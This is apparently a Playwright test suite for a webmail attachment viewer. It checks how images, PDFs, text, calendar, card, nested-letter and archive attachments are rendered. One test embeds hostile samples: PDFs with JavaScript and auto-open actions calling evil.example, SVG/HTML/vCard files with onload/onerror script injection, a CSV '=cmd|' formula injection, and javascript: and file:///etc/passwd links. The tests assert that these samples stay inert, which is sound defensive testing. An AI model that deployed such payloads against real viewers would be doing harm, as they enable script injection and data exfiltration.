// Attached files looked at in the page: images, PDFs, text, tables, letters, archives; and that hostile ones do nothing but look odd.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { crc32, deflateSync } from 'node:zlib'
import type { Page } from 'playwright-core'
import { concatBytes, utf8 } from '#base/bytes.ts'
import { joinObjects, pdfOf, stream, zipOf } from '#formats/documents/documents.testbed.ts'
import { barriers, chromiumMissing, type Looks, openPage, signIn, type WatchedPage } from './browser.ts'
import { openStage } from './stage.ts'

const skip = await chromiumMissing()
const stage = openStage(skip)

type File = { readonly name: string; readonly type: string; readonly octets: Uint8Array }

function letterWith(subject: string, files: readonly File[]): string {
  const parts = files.map(
    ({ name, type, octets }) => `--b
Content-Type: ${type}
Content-Disposition: attachment; filename*=UTF-8''${encodeURIComponent(name)}
Content-Transfer-Encoding: base64

${Buffer.from(octets).toString('base64').replaceAll(/.{76}/g, '$&\n')}
`,
  )
  return `From: Shop <a@shop.example>
To: hanako@home.test
Subject: ${subject}
Date: Fri, 27 Nov 2026 09:00:00 +0000
Message-ID: <${subject}@shop.example>
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/plain

files
${parts.join('')}--b--
`
}

/** PNG §5: one colour */
function pngOf(width: number, height: number, [red, green, blue]: readonly [number, number, number]): Uint8Array {
  const chunk = (name: string, content: Uint8Array) => {
    const body = concatBytes([utf8(name), content])
    const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)]
    length.writeUInt32BE(content.length)
    check.writeUInt32BE(crc32(body))
    return concatBytes([length, body, check])
  }
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width)
  head.writeUInt32BE(height, 4)
  head.set([8, 2], 8)
  const line = Buffer.concat([Buffer.from([0]), Buffer.alloc(width * 3, Buffer.from([red, green, blue]))])
  const pixels = deflateSync(Buffer.concat(Array.from({ length: height }, () => line)))
  const mark = Buffer.from('89504e470d0a1a0a', 'hex')
  return concatBytes([mark, chunk('IHDR', head), chunk('IDAT', pixels), chunk('IEND', new Uint8Array())])
}

/** One page whose objects somebody has written by hand */
function pdfWith(
  page: string,
  catalog = '',
  more: readonly string[] = [],
  content = 'BT /F1 24 Tf 40 700 Td (Hello PDF) Tj ET',
): Uint8Array {
  return joinObjects([
    utf8(`<< /Type /Catalog /Pages 2 0 R ${catalog} >>`),
    utf8('<< /Type /Pages /Kids [3 0 R] /Count 1 >>'),
    utf8(`<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R ${page} >>`),
    stream(utf8(content), false),
    utf8('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'),
    ...more.map(one => utf8(one)),
  ])
}

const box = '/MediaBox [0 0 595 842]'
const link = (uri: string, y: number) =>
  `<< /Type /Annot /Subtype /Link /Rect [40 ${y} 240 ${y + 30}] /A << /S /URI /URI (${uri}) >> >>`

/** Signed in, the letter is open. At the end nothing was an error, and nothing was asked of anybody but us. */
async function onLetter(subject: string, looks: Looks, act: (page: WatchedPage) => Promise<void>): Promise<void> {
  const page = await openPage(stage.browser, stage.home.origin, looks)
  const strangers: string[] = []
  page.context().on('request', request => {
    if (!request.url().startsWith(stage.home.origin) && !/^(?:blob|data):/.test(request.url()))
      strangers.push(request.url())
  })
  try {
    await signIn(page)
    await page.locator('.row', { hasText: subject }).click()
    await page.locator('.attachments').waitFor()
    await act(page)
    assert.deepEqual([page.faults, strangers], [[], []])
  } finally {
    await page.context().close()
  }
}

const file = (page: Page, name: string) => page.locator('.attachment', { hasText: name })
const viewer = (page: Page) => page.locator('dialog.viewer')

/** Colour in the middle of a page or image as it is on the screen */
async function middle(page: Page, selector: string): Promise<string> {
  return await page.evaluate(`(source => {
    const canvas = document.createElement('canvas')
    canvas.width = canvas.height = 1
    const [width, height] = 'naturalWidth' in source ? [source.naturalWidth, source.naturalHeight] : [source.width, source.height]
    const pen = canvas.getContext('2d')
    pen.drawImage(source, width / 2, height / 2, 1, 1, 0, 0, 1, 1)
    return pen.getImageData(0, 0, 1, 1).data.slice(0, 3).join()
  })(document.querySelector('${selector}'))`)
}

/** Something darker than paper is drawn on it. */
const hasInk = `(canvas => canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height).data
  .some((value, at) => at % 4 === 0 && value < 128))(document.querySelector('canvas[data-drawn]'))`

test('images: small ones in the letter, large ones one after the other', { skip }, async () => {
  const files = [
    { name: 'red.png', type: 'image/png', octets: pngOf(400, 300, [200, 20, 20]) },
    { name: '青.jpg', type: 'application/octet-stream', octets: pngOf(3000, 100, [20, 20, 200]) },
    {
      name: 'lie.png',
      type: 'image/png',
      octets: utf8('<svg xmlns="http://www.w3.org/2000/svg" onload="window.ran=1"/>'),
    },
    { name: 'bomb.png', type: 'image/png', octets: pngOf(20_000, 1, [0, 0, 0]) },
  ]
  Buffer.from(files[3]?.octets.buffer ?? new ArrayBuffer(0)).writeUInt32BE(20_000, 20)
  await stage.home.put('hanako', 'inbox', letterWith('pictures', files))
  await onLetter('pictures', {}, async page => {
    await page.locator('.thumbnail[data-drawn=true]').nth(1).waitFor()
    assert.equal(await middle(page, '.thumbnail'), '200,20,20')
    await file(page, 'red.png').click()
    const image = viewer(page).locator('img')
    await image.waitFor()
    assert.equal(await middle(page, 'dialog.viewer img'), '200,20,20')
    const width = async () => (await image.boundingBox())?.width
    assert.equal(await width(), 400)
    await page.keyboard.press('+')
    assert.equal(await width(), 500)
    assert.deepEqual(await barriers(page), [])
    await page.keyboard.press('ArrowRight')
    await viewer(page).getByRole('heading', { name: '青.jpg' }).waitFor()
    await image.waitFor()
    assert.equal(await middle(page, 'dialog.viewer img'), '20,20,200')
    assert.ok(((await width()) ?? 0) < 1440)
    await page.keyboard.press('ArrowRight')
    await viewer(page).getByText('表記されている画像ではありません').waitFor()
    await page.keyboard.press('ArrowRight')
    await viewer(page).getByText('画像が大きすぎる').waitFor()
    assert.equal(await viewer(page).getByRole('button', { name: '次のファイル' }).count(), 0)
    const [saved] = await Promise.all([
      page.waitForEvent('download'),
      viewer(page).getByRole('button', { name: 'ダウンロード' }).click(),
    ])
    assert.equal(saved.suggestedFilename(), 'bomb.png')
    await page.keyboard.press('Escape')
    await viewer(page).waitFor({ state: 'detached' })
    assert.equal(await page.locator('.attachments').count(), 1)
    assert.equal(await page.evaluate('window.ran'), undefined)
  })
})

test('PDFs: Japanese without embedded fonts, text to mark, links of a letter’s kind', { skip }, async () => {
  const annotations = `${box} /Annots [${link('https://shop.example/a', 600)} ${link('javascript:window.ran=1', 500)} ${link('file:///etc/passwd', 400)}]`
  const files = [
    {
      name: '見積.pdf',
      type: 'application/pdf',
      octets: pdfOf(Array.from({ length: 30 }, (_, at) => `株式会社の見積 ${at + 1}`)),
    },
    { name: 'links.pdf', type: 'application/pdf', octets: pdfWith(annotations) },
  ]
  await stage.home.put('hanako', 'inbox', letterWith('papers', files))
  await onLetter('papers', { language: 'en', device: 'phone' }, async page => {
    await file(page, '見積.pdf').click()
    await viewer(page).getByText('株式会社の見積 1', { exact: true }).waitFor()
    const drawn = viewer(page).locator('canvas[data-drawn]')
    assert.ok((await drawn.count()) < 9)
    assert.equal(await viewer(page).locator('.viewer-page').count(), 30)
    // there is ink where the words are
    assert.equal(await page.evaluate(hasInk), true)
    assert.deepEqual(await barriers(page), [])
    await viewer(page).locator('.viewer-page').nth(29).scrollIntoViewIfNeeded()
    await viewer(page).getByText('株式会社の見積 30').waitFor()
    // the first ones are pixels no more
    assert.equal(await page.evaluate("document.querySelector('dialog.viewer canvas').width"), 0)
    await viewer(page).getByRole('button', { name: 'Next file' }).click()
    const links = viewer(page).locator('.viewer-page a')
    await links.first().waitFor()
    assert.deepEqual(
      await links.evaluateAll(all => all.map(one => [one.getAttribute('href'), one.getAttribute('rel')])),
      [['https://shop.example/a', 'noopener noreferrer nofollow']],
    )
  })
})

test('hostile files leave no script and no request', { skip }, async t => {
  const script = '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\)) >>'
  const actions = '/AA << /O << /S /URI /URI (https://evil.example/opened) >> >>'
  const outside =
    '/AcroForm << /XFA (<xdp><script>app.launchURL\\("https://evil.example/"\\)</script></xdp>) /Fields [] >>'
  const pdfs: Readonly<Record<string, Uint8Array>> = {
    'script.pdf': pdfWith(`${box} ${actions}`, `${script} ${outside}`),
    'huge.pdf': pdfWith('/MediaBox [0 0 100000000 100000000]'),
    'thin.pdf': pdfWith('/MediaBox [0 0 1 1000000]'),
    'nothing.pdf': pdfWith('/MediaBox [0 0 0 0]'),
    'image.pdf': pdfWith(box, '', [], 'BI /W 60000 /H 60000 /BPC 8 /CS /G ID x EI'),
    'external.pdf': pdfWith(
      `${box} /Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (https://evil.example/a.pdf) >> >>]`,
    ),
    'broken.pdf': utf8('%PDF-1.7\n1 0 obj << /Type /Catalog >>'),
    'endless.pdf': pdfWith(`${box} /Parent 3 0 R`),
  }
  const others: readonly File[] = [
    {
      name: 'run.svg',
      type: 'image/svg+xml',
      octets: utf8(
        '<svg xmlns="http://www.w3.org/2000/svg" onload="window.ran=1"><image href="https://evil.example/a"/></svg>',
      ),
    },
    {
      name: 'run.html',
      type: 'text/html',
      octets: utf8('<script>window.ran=1</script><img src=https://evil.example/b onerror=window.ran=1>'),
    },
    {
      name: 'run.csv',
      type: 'text/csv',
      octets: utf8('=cmd|x,<img src=x onerror=window.ran=1>\n"<script>window.ran=1</script>"'),
    },
    {
      name: 'run.vcf',
      type: 'text/vcard',
      octets: utf8('BEGIN:VCARD\nFN:<img src=x onerror=window.ran=1>\nURL:javascript:window.ran=1\nEND:VCARD'),
    },
    {
      name: 'run.eml',
      type: 'message/rfc822',
      octets: utf8(
        'From: a@shop.example\r\nSubject: inner <b>\r\nContent-Type: text/html\r\n\r\n<p>inside</p><script>window.ran=1</script><img src="https://evil.example/c" onerror="window.ran=1">',
      ),
    },
  ]
  const files = [
    ...Object.entries(pdfs).map(([name, octets]) => ({ name, type: 'application/pdf', octets })),
    ...others,
  ]
  await stage.home.put('hanako', 'inbox', letterWith('hostile', files))
  await onLetter('hostile', { theme: 'dark' }, async page => {
    page.on('dialog', dialog => assert.fail(`a dialog: ${dialog.message()}`))
    for (const { name } of files)
      await t.test(name, async () => {
        await file(page, name).click()
        const content = viewer(page).locator('.viewer-stage > :not(button)')
        await content.first().waitFor()
        await viewer(page).locator('.viewer-note[role=status]').waitFor({ state: 'detached' })
        if (name.endsWith('.pdf')) await viewer(page).locator('canvas[data-drawn], .viewer-note').first().waitFor()
        if (name === 'script.pdf') await viewer(page).getByText('Hello PDF').waitFor()
        if (name === 'broken.pdf') await viewer(page).getByText('ここでは表示できません').waitFor()
        if (name === 'run.html') await viewer(page).getByText('<script>window.ran=1</script>').waitFor()
        if (name === 'run.svg') await viewer(page).getByText('<svg xmlns').waitFor()
        if (name === 'run.eml') await viewer(page).locator('.letter-frame').contentFrame().getByText('inside').waitFor()
        assert.equal(await viewer(page).locator('svg:not(.icon), object, embed, script').count(), 0)
        const pixels: readonly number[] = await page.evaluate(
          "[...document.querySelectorAll('dialog.viewer canvas')].map(one => one.width * one.height)",
        )
        assert.ok(pixels.every(count => count <= 16_100_000))
        await page.keyboard.press('Escape')
        await viewer(page).waitFor({ state: 'detached' })
        assert.equal(await page.evaluate('window.ran'), undefined)
      })
  })
})

test('text in its charset, tables, calendars, cards, letters in letters, archives', { skip }, async t => {
  const event =
    'BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:春の会議\r\nDTSTART:20261201T010000Z\r\nLOCATION:会議室A\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n'
  const inner = letterWith('inner', [{ name: 'deep.txt', type: 'text/plain', octets: utf8('deep down') }]).replaceAll(
    '\n',
    '\r\n',
  )
  const files: readonly File[] = [
    { name: 'sjis.txt', type: 'text/plain', octets: Buffer.from('8e529363', 'hex') },
    { name: 'prices.csv', type: 'text/csv', octets: utf8('品名,数\n紙,2\n') },
    { name: 'data.json', type: 'application/json', octets: utf8('{"a": 1}') },
    { name: 'invite.ics', type: 'text/calendar', octets: utf8(event) },
    {
      name: 'jiro.vcf',
      type: 'text/vcard',
      octets: utf8('BEGIN:VCARD\nFN:鈴木 次郎\nEMAIL:jiro@internet.test\nEND:VCARD\n'),
    },
    { name: 'forwarded.eml', type: 'message/rfc822', octets: utf8(inner) },
    { name: 'all.zip', type: 'application/zip', octets: zipOf({ 'folder/山.txt': 'hello' }) },
    { name: 'program.exe', type: 'application/x-msdownload', octets: utf8('MZ') },
  ]
  await stage.home.put('hanako', 'inbox', letterWith('kinds', files))
  await onLetter('kinds', { language: 'en' }, async page => {
    const look = (name: string, act: () => Promise<void>) =>
      t.test(name, async () => {
        await file(page, name).click()
        await viewer(page).getByRole('heading', { name, exact: true }).waitFor()
        await act()
        assert.deepEqual(await barriers(page), [])
        await page.keyboard.press('Escape')
        await viewer(page).waitFor({ state: 'detached' })
      })
    await look('sjis.txt', async () => {
      await viewer(page).getByText('山田').waitFor()
      const charset = viewer(page).getByLabel('Character encoding')
      assert.match((await charset.textContent()) ?? '', /Automatic \(shift_jis\)/)
      await charset.selectOption('koi8-r')
      await viewer(page).getByText('▌R⌠c').waitFor()
    })
    await look('prices.csv', () => viewer(page).getByRole('columnheader', { name: '品名' }).waitFor())
    await look('data.json', () => viewer(page).getByText('{"a": 1}').waitFor())
    await look('invite.ics', async () => {
      await viewer(page).getByRole('heading', { name: '春の会議' }).waitFor()
      assert.match(
        (await viewer(page).locator('dl').textContent()) ?? '',
        /Begins.*10:00 \(Japan Standard Time\).*Where会議室A/s,
      )
    })
    await look('jiro.vcf', () => viewer(page).getByText('jiro@internet.test').waitFor())
    await look('forwarded.eml', async () => {
      await viewer(page).getByRole('heading', { name: 'inner' }).waitFor()
      await file(page, 'deep.txt').click()
      await viewer(page).getByText('deep down').waitFor()
    })
    await look('all.zip', () => viewer(page).getByText('folder/山.txt').waitFor())
    // what nothing here can show is a file to save, as ever
    assert.equal(await file(page, 'program.exe').getAttribute('download'), 'program.exe')
  })
})
